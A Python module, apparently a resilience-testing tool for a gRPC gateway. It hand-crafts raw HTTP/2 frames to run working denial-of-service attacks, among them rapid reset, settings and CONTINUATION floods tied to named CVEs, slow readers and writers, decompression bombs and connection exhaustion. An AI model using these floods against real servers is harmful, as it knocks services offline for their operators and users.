"""A hostile client process that speaks raw HTTP/2, for one kind of abuse.

python -m faults.abuse KIND SECONDS TARGET...

When it ends, it prints `Counts` as a JSON object. Frames are built by hand (RFC 9113), because
libraries refuse to send what this module sends.
"""

from __future__ import annotations

import asyncio
import gzip
import sys
import time
from collections.abc import Awaitable, Callable, Mapping
from contextlib import suppress
from dataclasses import dataclass
from functools import cache
from typing import Final

import msgspec

# Types and flags of frames.
_DATA, _HEADERS, _RST_STREAM, _SETTINGS, PING, _CONTINUATION = 0, 1, 3, 4, 6, 9
_END_STREAM, ACK, _END_HEADERS = 1, 1, 4
_INITIAL_WINDOW_SIZE: Final = 4
_CANCEL: Final = 8
_MAX_FRAME: Final = 16_384

_GET_STATS: Final = "/headrace.v1.JobService/GetStats"
_SUBMIT_JOB: Final = "/headrace.v1.JobService/SubmitJob"
_WATCH_JOBS: Final = "/headrace.v1.JobService/WatchJobs"

# An empty gRPC message.
_EMPTY: Final = b"\0\0\0\0\0"
# Connections that attack at the same time, for each target.
_ATTACKERS: Final = 4
_CONNECT_S: Final = 10.0


@dataclass
class Counts:
    """Counts of the abuse.

    Attributes:
        connections: opened connections.
        refused: connections that the gateway did not accept.
        closed: connections that the gateway closed.
        sent: frames, calls or bytes, by kind of abuse.
        open: connections that were open at the end.
    """

    connections: int = 0
    refused: int = 0
    closed: int = 0
    sent: int = 0
    open: int = 0


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return an HTTP/2 frame."""
    header = len(payload).to_bytes(3) + bytes((kind, flags)) + stream.to_bytes(4)
    return header + payload


# The first bytes of a connection.
PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(_SETTINGS, 0, 0)


def header_block(path: str, *pairs: tuple[str, str]) -> bytes:
    """Return the headers of a gRPC call, without compression."""
    fields = (
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "localhost"),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
        *pairs,
    )
    return b"".join(
        b"\0" + _literal(name.encode()) + _literal(value.encode()) for name, value in fields
    )


def _literal(text: bytes) -> bytes:
    """Return a string of HPACK (RFC 7541, section 5.2)."""
    size = len(text)
    if size < 127:
        return bytes((size,)) + text
    prefix, size = bytearray((127,)), size - 127
    while size >= 128:
        prefix.append(size % 128 + 128)
        size //= 128
    prefix.append(size)
    return bytes(prefix) + text


def call_frames(stream: int, block: bytes, message: bytes = _EMPTY) -> bytes:
    """Return the frames of a call with one message."""
    return frame(_HEADERS, _END_HEADERS, stream, block) + frame(_DATA, _END_STREAM, stream, message)


class Connection:
    """A connection on which every frame can be sent."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader = reader
        self._writer = writer
        self.next_stream = 1

    def take_stream(self) -> int:
        """Return the id of a new stream."""
        stream = self.next_stream
        self.next_stream += 2
        return stream

    async def send(self, data: bytes) -> None:
        """Send bytes, and wait while the gateway does not read.

        Raises:
            OSError: the gateway closed the connection.
        """
        if self.reader.at_eof():
            raise ConnectionResetError
        self._writer.write(data)
        await self._writer.drain()

    async def drain_responses(self) -> None:
        """Read and drop everything until the gateway closes the connection."""
        with suppress(OSError):
            while await self.reader.read(65_536):
                pass

    def close(self) -> None:
        """Close the connection at once."""
        self._writer.transport.abort()


# Abuses one connection until the gateway closes it.
Abuse = Callable[[Connection, Counts], Awaitable[None]]


async def _flood(connection: Connection, counts: Counts, data: bytes, frames: int) -> None:
    while True:
        await connection.send(data)
        counts.sent += frames
        # Without a pause, a socket that never blocks would starve the other connections.
        await asyncio.sleep(0)


async def rapid_reset(connection: Connection, counts: Counts) -> None:
    """Start calls and reset each of them at once (CVE-2023-44487)."""
    block = header_block(_GET_STATS)
    reset = _CANCEL.to_bytes(4)
    while connection.next_stream < 2**31 - 512:
        streams = [connection.take_stream() for _ in range(100)]
        await connection.send(
            b"".join(
                call_frames(stream, block) + frame(_RST_STREAM, 0, stream, reset)
                for stream in streams
            )
        )
        counts.sent += len(streams)
        await asyncio.sleep(0)


async def ping_flood(connection: Connection, counts: Counts) -> None:
    """Send pings as fast as possible."""
    await _flood(connection, counts, frame(PING, 0, 0, b"headrace") * 100, 100)


async def settings_flood(connection: Connection, counts: Counts) -> None:
    """Send settings, each of which needs an acknowledgement (CVE-2019-9515)."""
    window = _INITIAL_WINDOW_SIZE.to_bytes(2) + (65_535).to_bytes(4)
    await _flood(connection, counts, frame(_SETTINGS, 0, 0, window) * 100, 100)


async def header_flood(connection: Connection, counts: Counts) -> None:
    """Send a block of headers that never ends (CVE-2024-27316)."""
    await connection.send(frame(_HEADERS, 0, connection.take_stream(), header_block(_GET_STATS)))
    more = b"\0" + _literal(b"x-more") + _literal(b"x" * 1000)
    await _flood(connection, counts, frame(_CONTINUATION, 0, 1, more) * 16, 16)


async def huge_metadata(connection: Connection, counts: Counts) -> None:
    """Make calls with a megabyte of metadata."""
    block = header_block(_GET_STATS, *((f"x-{n}", "y" * 8000) for n in range(128)))
    parts = [block[at : at + _MAX_FRAME] for at in range(0, len(block), _MAX_FRAME)]
    while True:
        stream = connection.take_stream()
        frames = [frame(_HEADERS, 0, stream, parts[0])]
        frames += [frame(_CONTINUATION, 0, stream, part) for part in parts[1:-1]]
        frames.append(frame(_CONTINUATION, _END_HEADERS, stream, parts[-1]))
        await connection.send(b"".join(frames) + frame(_DATA, _END_STREAM, stream, _EMPTY))
        counts.sent += 1
        await asyncio.sleep(0)


async def slow_reader(connection: Connection, counts: Counts) -> None:
    """Make calls whose responses do not fit into a window of zero bytes."""
    window = _INITIAL_WINDOW_SIZE.to_bytes(2) + (0).to_bytes(4)
    await connection.send(frame(_SETTINGS, 0, 0, window))
    block = header_block(_WATCH_JOBS)
    for _ in range(100):
        await connection.send(call_frames(connection.take_stream(), block))
        counts.sent += 1
    await connection.drain_responses()


async def slow_writer(connection: Connection, counts: Counts) -> None:
    """Announce requests of a megabyte, and send one byte of each per second."""
    block = header_block(_SUBMIT_JOB)
    streams = [connection.take_stream() for _ in range(100)]
    prefix = b"\0" + (2**20).to_bytes(4)
    for stream in streams:
        await connection.send(
            frame(_HEADERS, _END_HEADERS, stream, block) + frame(_DATA, 0, stream, prefix)
        )
    while True:
        await asyncio.sleep(1)
        await connection.send(b"".join(frame(_DATA, 0, stream, b"x") for stream in streams))
        counts.sent += len(streams)


@cache
def _bomb() -> bytes:
    return gzip.compress(bytes(2**24), 9)


async def decompression_bomb(connection: Connection, counts: Counts) -> None:
    """Send messages of 16 KiB that decompress to 16 MiB."""
    packed = _bomb()
    message = b"\1" + len(packed).to_bytes(4) + packed
    block = header_block(_SUBMIT_JOB, ("grpc-encoding", "gzip"))
    parts = [message[at : at + _MAX_FRAME] for at in range(0, len(message), _MAX_FRAME)]
    while True:
        stream = connection.take_stream()
        frames = [frame(_HEADERS, _END_HEADERS, stream, block)]
        frames += [frame(_DATA, 0, stream, part) for part in parts[:-1]]
        await connection.send(b"".join(frames) + frame(_DATA, _END_STREAM, stream, parts[-1]))
        counts.sent += 1
        # The window of the connection is updated while the gateway reads.
        await asyncio.sleep(0.02)


async def idle(connection: Connection, counts: Counts) -> None:
    """Do nothing after the preface."""
    counts.sent += 1
    await connection.drain_responses()


# The kinds of abuse by name, with the connections per target and whether they send the preface.
KINDS: Final[Mapping[str, tuple[Abuse, int, bool]]] = {
    "rapid reset": (rapid_reset, _ATTACKERS, True),
    "ping flood": (ping_flood, _ATTACKERS, True),
    "settings flood": (settings_flood, _ATTACKERS, True),
    "header flood": (header_flood, _ATTACKERS, True),
    "huge metadata": (huge_metadata, _ATTACKERS, True),
    "slow readers": (slow_reader, 10, True),
    "slow writers": (slow_writer, 10, True),
    "decompression bombs": (decompression_bomb, _ATTACKERS, True),
    "idle connections": (idle, 2000, True),
    "slow handshakes": (idle, 2000, False),
}


async def _attack(abuse: Abuse, target: str, counts: Counts, *, preface: bool, ends: float) -> None:
    """Abuse one connection after another."""
    host, _, port = target.rpartition(":")
    while (left := ends - time.monotonic()) > 0:
        try:
            async with asyncio.timeout(min(_CONNECT_S, left)):
                reader, writer = await asyncio.open_connection(host, int(port))
        except (OSError, TimeoutError):
            counts.refused += 1
            await asyncio.sleep(0.1)
            continue
        counts.connections += 1
        counts.open += 1
        connection = Connection(reader, writer)
        reading = asyncio.ensure_future(asyncio.sleep(0))
        try:
            async with asyncio.timeout(max(0.0, ends - time.monotonic())):
                if preface:
                    await connection.send(PREFACE)
                if abuse not in (idle, slow_reader):
                    # A reader keeps the socket from filling, so that only the gateway ends it.
                    reading = asyncio.ensure_future(connection.drain_responses())
                await abuse(connection, counts)
                counts.closed += 1
                counts.open -= 1
        except TimeoutError:
            pass
        except OSError:
            counts.closed += 1
            counts.open -= 1
        finally:
            reading.cancel()
            connection.close()


async def main(kind: str, seconds: float, targets: list[str]) -> None:
    """Abuse all targets, and print the counts."""
    abuse, connections, preface = KINDS[kind]
    counts = Counts()
    ends = time.monotonic() + seconds
    await asyncio.gather(
        *(
            _attack(abuse, target, counts, preface=preface, ends=ends)
            for target in targets
            for _ in range(connections)
        )
    )
    sys.stdout.write(msgspec.json.encode(counts).decode() + "\n")


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], float(sys.argv[2]), sys.argv[3:]))
